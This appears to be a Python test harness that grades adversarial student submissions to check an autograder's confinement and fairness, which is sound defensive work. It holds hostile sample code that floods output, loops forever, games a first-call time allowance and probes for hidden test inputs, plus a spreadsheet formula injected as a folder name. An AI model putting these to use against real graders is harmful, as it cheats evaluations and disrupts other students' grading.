    ``launcher`` runs the judge as another machine would (tests/environments.py), and ``as_user`` the
    neighbour as the same user; their folders are then open to that user.
    """
    submission, temporary, results = work / "submission", work / "tmp", work / "results.json"
    target = _Target(attack, kit, submission, results, python, as_user)
    temporary.mkdir()
    if launcher:
        for path in (work, submission, temporary, *submission.iterdir()):
            os.chmod(path, 0o777)
    before, site_before = manifest(kit), _site_packages()
    command = [python, "-m", "grader.cli", "check", str(submission), "--exercise", attack.module, "--json",
               str(results), "--time-limit", str(TIME_LIMIT), "--solutions", str(kit / "solutions")]
    exit_code, output, seconds = _judged([*launcher, *command], kit, temporary, work)
    written = results.read_text() if results.exists() else None
    time.sleep(attack.settle)  # long enough for a daemon that survived to strike
    kit_intact, site_intact = manifest(kit) == before, _site_packages() == site_before
    return target.outcome(exit_code, written, output, seconds, _leftovers(temporary), kit_intact, site_intact)


# Honest students graded first and last among a class of attackers: the reference's modules, full marks.
HONEST_NEIGHBOURS = ("a-honest", "z-honest")


def run_class_of_attacks(attacks: list[Attack], kit: Path, work: Path, python: str = sys.executable,
                         launcher: tuple = (), as_user: tuple = ()) -> dict[str, Outcome]:
    """Grade every attack of ``attacks`` as a student of one class, by one ``softlookup grade``; attack name ->
    what happened, inspected as :func:`run_attack` does (the kit and site-packages once, for all of them), and
    each of :data:`HONEST_NEIGHBOURS` -> its score and status.

    One judge takes student after student: each attack also aims at the students graded after it.
    """
    submissions, out, temporary = work / "class", work / "out", work / "tmp"
    for name in HONEST_NEIGHBOURS:
        shutil.copytree(kit / "solutions", submissions / name, ignore=shutil.ignore_patterns("__pycache__"))
    targets = {}
    for number, attack in enumerate(attacks):
        student = f"attack-{number:02d}"
        targets[student] = _Target(attack, kit, submissions / student,
                                   gradebook.student_folder(out, student) / "results.json", python, as_user)
    temporary.mkdir()
    if launcher:
        for path in (work, temporary, *submissions.rglob("*"), submissions):
            os.chmod(path, 0o777)
    before, site_before = manifest(kit), _site_packages()
    modules = sorted({attack.module for attack in attacks})
    command = [python, "-m", "grader.cli", "grade", str(submissions), "--out", str(out), "--time-limit",
               str(TIME_LIMIT), "--solutions", str(kit / "solutions"), *[f"--exercise={m}" for m in modules]]
    exit_code, output, seconds = _judged([*launcher, *command], kit, temporary, work)
    written = {student: target.results.read_text() if target.results.exists() else None
               for student, target in targets.items()}
    time.sleep(max(attack.settle for attack in attacks))
    kit_intact, site_intact, leftovers = manifest(kit) == before, _site_packages() == site_before, _leftovers(temporary)
    statuses = classes.rows(out) if (out / "grades.csv").exists() else {}
    outcomes = {target.attack.name: target.outcome(
        exit_code, written[student], f"{output}\nits row: {statuses.get(student)}\n{_feedback(out, student)}",
        seconds, leftovers, kit_intact, site_intact, status=statuses.get(student, {}).get("status"))
        for student, target in targets.items()}
    for name in HONEST_NEIGHBOURS:
        row = statuses.get(name, {})
        outcomes[name] = Outcome(name, seconds, exit_code, float(row["score"]) if row else None, True, kit_intact,
                                 site_intact, True, leftovers, 0, False, f"{output}\nits row: {row}",
                                 row.get("status"))
    return outcomes


def _feedback(out: Path, student: str) -> str:
    path = gradebook.student_folder(out, student) / "feedback.md"
    return path.read_text() if path.exists() else "(no feedback.md)"


class _Target:
    """An attack written into a submission folder, with the neighbour and the listener it aims at."""

    def __init__(self, attack: Attack, kit: Path, submission: Path, results: Path, python: str, as_user: tuple):
        if missing := attack.missing_targets(kit):
            raise AssertionError(f"{attack.name} aims at {missing}, which the kit no longer has: aim it again")
        self.attack, self.results = attack, results
        shutil.copytree(kit / "assignments", submission)
        self.neighbour = subprocess.Popen([*as_user, python, "-c", "import time; time.sleep(600)"])
        self.server, self.received = _listener()
        (submission / f"{attack.module}.py").write_text(
            attack.source(kit, self.neighbour.pid, self.server.getsockname()[1], results))
        for name, target in attack.links.items():
            (submission / name).symlink_to(kit / target)

    def outcome(self, exit_code, written, output, seconds, leftovers, kit_intact, site_intact,
                status=None) -> Outcome:
        """What happened, once the judge is done and the settling time is over; the neighbour is stopped."""
        try:
            score = float(json.loads(written)["score"]) if written else None
        except (ValueError, KeyError, TypeError):
            score = None
        intact = written is not None and self.results.exists() and self.results.read_text() == written
        alive = self.neighbour.poll() is None
        self.neighbour.kill()
        self.neighbour.wait()
        self.server.close()
        return Outcome(self.attack.name, seconds, exit_code, score, intact, kit_intact, site_intact, alive,
                       leftovers, len(self.received), SECRET in output + (written or ""), output, status)


def _judged(command: list[str], kit: Path, temporary: Path, work: Path) -> tuple[int | None, str, float]:
    """Run a judge's command against the kit copy: (exit code, None past BOUND; its output; seconds)."""
    environment = {**os.environ, "PYTHONPATH": str(kit), "TMPDIR": str(temporary), "HF_HUB_OFFLINE": "1",
                   "SOFTLOOKUP_ATTACK_SECRET": SECRET, "COLUMNS": "200"}
    started = time.monotonic()
    try:
        done = subprocess.run(command, capture_output=True, text=True, env=environment, timeout=BOUND, cwd=work)
        exit_code, output = done.returncode, done.stdout + done.stderr
    except subprocess.TimeoutExpired as expired:
        exit_code, output = None, f"{expired.stdout or ''}{expired.stderr or ''}"
    return exit_code, output, time.monotonic() - started


def _leftovers(temporary: Path) -> list[str]:
    """Processes and files a judge's run left behind, in its temporary folder and where the disk-filler writes."""
    found = _processes_under(temporary) + [str(path) for path in temporary.iterdir()]
    return found + [path for path in ("/tmp/softlookup-attack-fill", "/var/tmp/softlookup-attack-fill")
                    if os.path.exists(path)]


def main():
    """Run the corpus against the kit found on this Python's path and print a table.

    ``--harmless`` leaves out the attacks that would do real damage where they
    succeed: run it that way against a kit without confinement.
    """
    import grader

    source = Path(grader.__path__[0]).parent
    print(f"{'attack':<48} {'class':<8} {'score':>6} {'secs':>6}  problems")
    for attack in ATTACKS:
        if attack.harmful and "--harmless" in sys.argv:
            continue
        with tempfile.TemporaryDirectory() as folder:
            work = Path(folder)
            outcome = run_attack(attack, kit_copy(work, source), work)
            problems = [name for name, bad in [
                ("judge did not finish", outcome.exit_code is None),
                ("no results", outcome.score is None), ("results rewritten", not outcome.results_intact),
                ("kit changed", not outcome.kit_intact), ("site-packages changed", not outcome.site_packages_intact),
                ("neighbour killed", not outcome.neighbour_alive), ("left behind", bool(outcome.leftovers)),
                ("connected", outcome.connections > 0), ("secret leaked", outcome.leaked)] if bad]
            score = "-" if outcome.score is None else f"{outcome.score:g}"
            print(f"{attack.name:<48} {attack.kind:<8} {score:>6} {outcome.seconds:>6.1f}  {', '.join(problems)}")
            for path in ("/tmp/softlookup-attack-fill", "/var/tmp/softlookup-attack-fill"):
                if os.path.exists(path):
                    os.unlink(path)


if __name__ == "__main__":
    main()


# -- attacks on a class -------------------------------------------------------------------------
# Students who aim at the rest of a class rather than at the kit (issue 16): graded by a real
# ``softlookup grade`` among honest students, whose rows must come out as if they were alone.

FLOOD = """
def softmax(x, axis=-1):
    for _ in range(10**5):  # 12 MB a call
        print("FLOOD " * 20)
    raise ValueError("flooded")
"""
LOOPING_SOFTMAX = """
def softmax(x, axis=-1):
    while True:
        pass
"""
# Right, but its first call faults in 64 MB first, as a library's one-time import would, and computes for 6.5 s
# under the 5 s limit: a first call's allowance, given to calls that looked as if they loaded, was bought so.
BOUGHT_TIME = '''
import time

_right_softmax, _paid = softmax, False


def softmax(x, axis=-1):
    global _paid
    if not _paid:
        _paid, end = True, time.process_time() + 6.5
        pages = bytearray(64 * 2**20)
        for page in range(0, len(pages), 4096):
            pages[page] = 1
        while time.process_time() < end:
            pass
    return _right_softmax(x, axis)
'''
# Right on the lesson's table only, and prints its inputs in every call: the hidden checks fail, and
# their inputs, expected values and these prints must reach the instructor alone.
PROBE = """

_right_soft_lookup = soft_lookup


def soft_lookup(query, keys, values, sharpness=1.0):
    print(f"REDACTION-PROBE query={query!r} keys={keys!r} sharpness={sharpness!r}")
    answer, weights = _right_soft_lookup(query, keys, values, sharpness)
    return (answer, weights) if len(keys) == 4 and sharpness == 1.0 else (answer + 1.0, weights)
"""


@dataclass(frozen=True)
class ClassAttack:
    """A student, by the name of its entry in the class folder (a zip is graded as the name less .zip)."""

    kind: str  # issue 16's class: cross-student, crash, resource, injection, redaction
    build: Callable[[Path], Path]  # writes the student into the class folder, at the path it is given
    statuses: tuple[str, ...]  # the statuses its row may show
    plants: tuple[str, ...] = ()  # what it tries to put into other students' files, or past the kit's headings


def _student(sources: dict[str, str]) -> Callable[[Path], Path]:
    return lambda path: classes.modules(path, sources)


CLASS_ATTACKS = {
    "printer": ClassAttack("cross-student", classes.printer, ("ok",),
                           plants=("NOTE FROM THE INSTRUCTOR", "## Note from the instructor", "printer's debug")),
    "loud": ClassAttack("cross-student", classes.loud, ("ok",), plants=("loud's own debug output",)),
    "surrogate-notebook": ClassAttack("crash", classes.surrogate_notebook, ("invalid", "missing")),
    "deep.zip": ClassAttack("crash", classes.deep_member, ("invalid",)),
    "corrupt.zip": ClassAttack("crash", classes.corrupt_stream, ("invalid",)),
    "looping": ClassAttack("resource", _student({"softmax": LOOPING_SOFTMAX}), ("timeout",)),
    "bought-time": ClassAttack("resource", _student({"softmax": classes.reference("softmax") + BOUGHT_TIME}),
                               ("timeout",)),
    "flood": ClassAttack("resource", _student({"softmax": FLOOD}), ("ok",), plants=("FLOOD " * 20,)),
    '=HYPERLINK("x","y")': ClassAttack("injection", classes.honest, ("ok",)),
    "probe": ClassAttack("redaction", _student({"lookup": classes.reference("lookup") + PROBE}), ("ok",),
                         plants=("REDACTION-PROBE",)),
}
